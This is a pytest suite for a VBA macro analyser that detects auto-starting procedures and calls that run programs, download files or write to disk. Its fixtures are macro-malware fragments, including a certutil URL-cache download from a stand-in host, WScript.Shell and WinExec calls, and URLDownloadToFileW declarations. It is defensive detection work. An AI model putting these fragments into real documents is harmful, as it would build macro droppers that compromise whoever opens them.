"""Facts of source code: what starts by itself, and whether one start reaches both a fetch and a run."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from seriema.examine.vba.project import Module
from seriema.examine.vba.reading import read


def reading(source, *, events=False, name="Module1"):
    return read([Module(name, source, events=events)])


def facts(source):
    return {(fact.does, fact.word.lower().lstrip("."), fact.line) for fact in reading(source).facts}


@pytest.mark.parametrize(
    ("source", "fact"),
    [
        ('Shell "calc"', ("run", "shell", 1)),
        ('x = Shell("calc", 1)', ("run", "shell", 1)),
        ('VBA.Shell "calc"', ("run", "shell", 1)),
        ("Interaction.Shell path", ("run", "shell", 1)),
        ('Set o = CreateObject("WScript.Shell")\no.Run "calc"', ("run", "run", 2)),
        ('Set o = CreateObject("WScr" & "ipt.Shell")\no.Exec c', ("run", "exec", 2)),
        ("Set o = CreateObject(name)\no.Run c", ("run", "run", 2)),
        ("Dim o As New WshShell\no.Run c", ("run", "run", 2)),
        ('Set o = GetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8")\no.Run c', ("run", "run", 2)),
        ('Set w = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process")\nw.Create c', ("run", "create", 2)),
        ('Set w = CreateObject("Shell.Application")\nw.ShellExecute c', ("run", "shellexecute", 2)),
        ('Declare Function e Lib "shell32" Alias "ShellExecuteA" (x)\ne 0', ("run", "shellexecutea", 2)),
        ('Private Declare PtrSafe Function WinExec Lib "kernel32" (x)\nWinExec c', ("run", "winexec", 2)),
        ('ExecuteExcel4Macro "CALL()"', ("run", "executeexcel4macro", 1)),
        ('Declare Function g Lib "urlmon" Alias "URLDownloadToFileW" (x)\ng 0', ("fetch", "urldownloadtofilew", 2)),
        ('Set h = CreateObject("MSXML2.XMLHTTP.6.0")', ("fetch", "msxml2.xmlhttp", 1)),
        ('Set h = CreateObject("WinHttp.WinHttpRequest.5.1")', ("fetch", "winhttp.winhttprequest", 1)),
        ("Dim h As New MSXML2.ServerXMLHTTP60", ("fetch", "serverxmlhttp60", 1)),
        ('Workbooks.Open "http://a.test/x.xls"', ("fetch", "open", 1)),
        ('Shell "certutil.exe -urlcache -f http://a.test/x y"', ("fetch", "-urlcache", 1)),
        ("s.SaveToFile p, 2", ("store", "savetofile", 1)),
        ("Open p For Binary As #1", ("store", "open", 1)),
    ],
)
def test_calls_that_matter_are_seen(source, fact):
    assert fact in facts(source)


@pytest.mark.parametrize(
    "source",
    [
        "Dim shell As String",
        'shell = "bash"',
        'Application.Run "Macro1"',
        "Set o = x\no.Run 1",
        "Set o = New Report\no.Create 1",
        'MsgBox "Shell this egg"',
        "' Shell calc",
        "Open p For Input As #1",
        "Call ShellSort(a)",
    ],
)
def test_what_only_looks_alike_is_not(source):
    assert not facts(source)


@pytest.mark.parametrize(
    ("name", "events", "starts"),
    [
        ("AutoOpen", False, True),
        ("auto_open", False, True),
        ("Document_Open", True, True),
        ("Workbook_BeforeClose", True, True),
        ("Frame1_Layout", True, True),
        ("CommandButton1_Click", True, True),
        ("CommandButton1_Click", False, False),
        ("Class_Initialize", True, False),
        ("Report", True, False),
    ],
)
def test_what_starts_by_itself(name, events, starts):
    (procedure,) = reading(f"Sub {name}()\nEnd Sub", events=events).procedures.values()
    assert bool(procedure.when) is starts


def reached(source, start="autoopen"):
    found = reading(source)
    return {key.partition("!")[2] for key in found.reached(found.procedures[f"module1!{start}"])}


def test_calls_are_followed():
    source = "Sub AutoOpen()\nA\nEnd Sub\nSub A(): B 1: End Sub\nFunction B(x)\nEnd Function\nSub C()\nEnd Sub"
    assert reached(source) == {"autoopen", "a", "b"}


def test_a_name_in_a_string_counts_as_a_call():
    assert reached('Sub AutoOpen()\nApplication.Run "Module1.C"\nEnd Sub\nSub C()\nEnd Sub') == {"autoopen", "c"}


@pytest.mark.parametrize(
    "call", ["CallByName x, y, 1", "Application.OnTime Now, n", "Application.Run n", "f AddressOf g"]
)
def test_a_computed_call_reaches_everything(call):
    assert reached(f"Sub AutoOpen()\n{call}\nEnd Sub\nSub C()\nEnd Sub") == {"autoopen", "c"}


def test_a_class_that_is_made_runs_its_beginning():
    modules = [
        Module("Module1", "Sub AutoOpen()\nDim x As New Helper\nEnd Sub"),
        Module("Helper", "Sub Class_Initialize()\nEnd Sub\nSub Other()\nEnd Sub", events=True),
    ]
    found = read(modules)
    assert found.reached(found.procedures["module1!autoopen"]) == {"module1!autoopen", "helper!class_initialize"}


PIECES = [
    "Sub",
    "Function",
    "Property",
    "Get",
    "AutoOpen",
    "(",
    ")",
    "End",
    "Shell",
    '"x"',
    '"http://a.test/x"',
    "Declare",
]
PIECES += ["Lib", "Alias", "Const", "=", "&", ":", ".", "Run", "CreateObject", "Open", "For", "Binary", "\n"]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=40))
def test_any_source_is_read_without_an_error(pieces):
    found = reading(" ".join(pieces), events=True)
    for procedure in found.procedures.values():
        assert procedure.key in found.reached(procedure)
    found.around(fact.procedure for fact in found.facts)
